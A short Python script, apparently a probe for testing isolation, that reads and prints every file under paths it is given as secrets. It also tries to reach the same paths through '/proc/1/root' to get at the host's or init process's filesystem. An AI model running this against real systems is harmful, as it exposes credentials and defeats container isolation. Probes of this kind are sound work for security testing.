"""Prints every file that it was told is a secret, and whatever else of the house it can find."""
import glob, os, sys

arguments = dict(zip(sys.argv[1::2], sys.argv[2::2]))
for path in arguments["--paths"].split(":"):
    for file in [path] + glob.glob(path + "/**/*", recursive=True) + glob.glob("/proc/1/root" + path):
        try:
            print("GOT", file, open(file, errors="replace").read())
        except OSError as e:
            print("nothing:", e.strerror)
